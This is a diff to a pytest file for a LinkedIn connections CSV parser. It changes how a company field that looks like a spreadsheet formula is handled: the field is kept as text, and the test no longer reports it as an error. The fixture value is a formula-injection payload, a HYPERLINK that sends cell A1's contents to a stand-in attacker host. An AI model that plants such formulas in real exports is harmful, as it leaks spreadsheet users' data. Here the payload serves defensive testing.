@@ -15,7 +15,10 @@ def test_it_finds_the_header_after_linkedins_notes(fixture_path):
         "Åsa Åström",
         "Mohammed Al-Sayed",
         "Johan Ek",
+        "Sara Berg",
     ]
+    # A company that looks like a formula is text to Mingel (the export neutralises it).
+    assert records[5].company == '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
     anna = records[0]
     assert anna.line == 5
     assert anna.linkedin_url == "https://www.linkedin.com/in/annasvensson"
@@ -29,10 +32,8 @@ def test_it_reports_bad_rows_with_their_line_and_reason(fixture_path):
     errors = [i for i in linkedin.parse(fixture_path("Connections.csv")) if isinstance(i, RowError)]
     assert [(e.line, e.code) for e in errors] == [
         (9, "no_name"),
-        (11, "formula"),
         (12, "bad_date"),
     ]
-    assert errors[1].params["field"] == "company"
 
 
 @pytest.mark.parametrize(
